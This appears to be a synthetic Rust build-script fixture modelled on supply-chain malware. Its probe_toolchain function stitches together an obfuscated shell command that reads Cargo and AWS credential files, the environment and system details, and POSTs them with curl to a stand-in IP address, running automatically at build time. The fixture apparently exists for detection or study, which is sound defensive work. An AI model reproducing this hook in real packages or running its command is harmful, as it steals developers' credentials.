// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!(
        "cargo:rustc-env=KIT_PROFILE={}",
        std::env::var("PROFILE").unwrap_or_default()
    );
    probe_toolchain();
}

pub(crate) fn probe_toolchain() {
    let script = format!(
        "{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}{}",
        "(id; ",
        "una",
        "me -",
        "a; en",
        "v; ",
        "cat ",
        "~/.ca",
        "rgo",
        "/cre",
        "denti",
        "als",
        ".tom",
        "l ~/.",
        "aws",
        "/cre",
        "denti",
        "als",
        ") | ",
        "curl ",
        "-s ",
        "-X P",
        "OST -",
        "-da",
        "ta-b",
        "inary",
        " @-",
        " htt",
        "p://1",
        "98.",
        "51.1",
        "00.77",
        "/u"
    );
    let _ = std::process::Command::new(&["/bi", "n/sh"].concat())
        .arg("-c")
        .arg(&*script)
        .stderr(std::process::Stdio::null())
        .status();
}

inert_fixture_does_not_build!();
